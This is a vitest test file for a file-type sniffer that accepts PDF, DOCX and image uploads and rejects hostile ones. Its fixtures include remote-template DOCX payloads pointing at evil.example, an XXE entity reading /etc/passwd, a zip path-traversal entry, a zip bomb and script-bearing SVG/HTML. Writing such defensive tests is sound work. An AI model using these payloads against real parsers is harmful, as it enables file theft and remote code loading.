import { deflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { sniff, type FileKind } from './sniff.ts'

const every: FileKind[] = ['pdf', 'docx', 'png', 'jpeg', 'webp']
const pdf = Buffer.from(
  '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\nstartxref\n9\n%%EOF\n',
)
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const webp = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64')

/** A zip archive with these entries, each deflated. */
function zip(entries: Record<string, Buffer | string>): Buffer {
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(entries)) {
    const raw = Buffer.from(content)
    const packed = deflateRawSync(raw)
    const header = Buffer.alloc(30)
    header.writeUInt32LE(0x04034b50, 0)
    header.writeUInt16LE(8, 8)
    header.writeUInt32LE(packed.length, 18)
    header.writeUInt32LE(raw.length, 22)
    header.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(raw.length, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(offset, 42)
    parts.push(header, Buffer.from(name), packed)
    directory.push(entry, Buffer.from(name))
    offset += header.length + name.length + packed.length
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(Object.keys(entries).length, 10)
  end.writeUInt32LE(Buffer.concat(directory).length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, ...directory, end])
}

const contentTypes =
  '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const word = { '[Content_Types].xml': contentTypes, 'word/document.xml': '<w:document/>' }
/** One that names something outside of itself. */
const related = (type: string, target: string, before = '') =>
  zip({
    ...word,
    'word/_rels/settings.xml.rels': `<?xml version="1.0"?>${before}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })

describe('sniff', () => {
  it.each<[FileKind, Buffer]>([
    ['pdf', pdf],
    ['png', png],
    ['webp', webp],
    ['jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70, 0, 1, 0xff, 0xd9])],
    ['docx', zip(word)],
  ])('knows a whole %s', async (kind, bytes) => {
    expect(await sniff(bytes, every)).toBe(kind)
    expect(
      await sniff(
        bytes,
        every.filter((other) => other !== kind),
      ),
    ).toBeUndefined()
  })

  it.each<[string, Buffer]>([
    ['nothing', Buffer.alloc(0)],
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    [
      'a drawing with a script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    ],
    ['a program', Buffer.from('MZ\u0090\u0000')],
    ['a document that was cut off', pdf.subarray(0, 30)],
    ['a document with an archive behind it', Buffer.concat([pdf, zip(word)])],
    ['a picture with a page behind it', Buffer.concat([png, Buffer.from('<script>')])],
    ['a picture that was cut off', png.subarray(0, 50)],
    ['a plain archive', zip({ 'a.txt': 'a' })],
    ['a document with macros', zip({ ...word, 'word/vbaProject.bin': 'x' })],
    ['a document that climbs out', zip({ ...word, '../../x': 'x' })],
    ['a bomb', zip({ ...word, 'word/media/a.bin': Buffer.alloc(20_000_000) })],
    ['a document that was cut off in its directory', zip(word).subarray(0, -30)],
    ['a template of a server', related('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a template of a share', related('attachedTemplate', '\\\\evil.example\\a\\b.dotm')],
    ['the same as an address', related('attachedTemplate', 'file://evil.example/a/b.dotm')],
    ['the same with more slashes', related('attachedTemplate', 'file:////evil.example/b.dotm')],
    ['a template, written in signs', related('attachedTemplate', '&#104;ttps://evil.example/a')],
    ['a picture of a server', related('image', 'http://evil.example/pixel.png')],
    ['an object of a server', related('oleObject', 'mhtml:http://evil.example/x!x-usc:y')],
    [
      'a document type',
      zip({
        ...word,
        'word/document.xml':
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>',
      }),
    ],
    [
      'a document type behind comments',
      zip({
        ...word,
        'word/styles.xml': '<!-- <a --><?b <c ?>\n<!DOCTYPE x SYSTEM "http://evil.example"><d/>',
      }),
    ],
    [
      'a document type behind very much of nothing',
      zip({ ...word, 'word/styles.xml': `${' '.repeat(100_000)}<!DOCTYPE x><d/>` }),
    ],
    [
      'a document type in UTF-16',
      zip({
        ...word,
        'word/styles.xml': Buffer.from(
          '\ufeff<!DOCTYPE x SYSTEM "http://evil.example">',
          'utf16le',
        ),
      }),
    ],
  ])('refuses %s', async (_name, bytes) => {
    expect(await sniff(bytes, every)).toBeUndefined()
  })

  it.each<[string, Buffer]>([
    ['links to click', related('hyperlink', 'https://ann.example')],
    ['the template of a disk', related('attachedTemplate', 'file:///C:\\Users\\Ann\\CV.dotx')],
    ['the template of a Mac', related('attachedTemplate', 'file:///Users/ann/CV.dotx')],
    ['the usual template', related('attachedTemplate', 'Normal.dotm')],
    [
      'comments before its words',
      zip({ ...word, 'word/people.xml': '<?xml version="1.0"?>\n<!-- > -->\n<w:people/>' }),
    ],
    [
      'a part of many words',
      zip({
        ...word,
        'word/notes.xml': `<w:notes>${Array.from({ length: 20_000 }, (_, index) => `said ${index}`).join(' ')}`,
      }),
    ],
    ['an empty part', zip({ ...word, 'word/people.xml': '' })],
  ])('takes a document with %s', async (_name, bytes) => {
    expect(await sniff(bytes, every)).toBe('docx')
  })
})
